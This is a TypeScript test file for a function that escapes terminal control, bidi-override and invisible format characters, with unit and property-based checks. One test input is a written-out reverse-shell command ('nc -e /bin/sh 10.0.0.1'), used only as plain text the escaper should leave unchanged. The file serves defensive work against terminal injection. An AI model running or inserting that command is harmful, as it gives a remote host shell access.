import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { escapeTerminal } from '../../src/model/escape.ts';
import { HOSTILE } from '../support/hostile.ts';

/** Everything that can steer a terminal, hide or reorder text, by Unicode's own classes. */
const STEERS = /\p{Cc}|\p{Cf}|\p{Zl}|\p{Zp}|\p{Cs}|\p{Bidi_Control}/u;

describe('escapeTerminal', () => {
  it('shows controls as visible escapes', () => {
    expect(escapeTerminal('a\u001b[31mb\r\nc\td\u0000\u009b')).toBe('a\\x1b[31mb\\r\\nc\\td\\x00\\x9b');
    expect(escapeTerminal('x\u202ey\u200bz\u{e0041}\ud83d')).toBe('x\\u202ey\\u200bz\\u{e0041}\\ud83d');
  });

  it('leaves ordinary text of any language as it is', () => {
    for (const text of [
      '',
      'nc -e /bin/sh 10.0.0.1',
      'größe 日本語 العربية עברית हिन्दी',
      '💥𝕏',
      'C:\\dir\\n "q" <b>',
    ]) {
      expect(escapeTerminal(text)).toBe(text);
    }
  });

  it.each(HOSTILE)('leaves nothing that steers: $name', ({ text }) => {
    expect(escapeTerminal(text)).not.toMatch(STEERS);
  });

  it('leaves nothing that steers in any text', () => {
    // Number signs and joiners of scripts in use are format characters, but part of the text.
    const partOfText = /[\u0600-\u0605\u06dd\u070f\u0890\u0891\u08e2\u{110bd}\u{110cd}\u{13430}-\u{1345f}]/u;
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), fc.array(fc.integer({ min: 0, max: 0xffff })), (text, units) =>
        [...escapeTerminal(text + String.fromCharCode(...units))].every(c => !STEERS.test(c) || partOfText.test(c)),
      ),
      { numRuns: 500 },
    );
  });
});
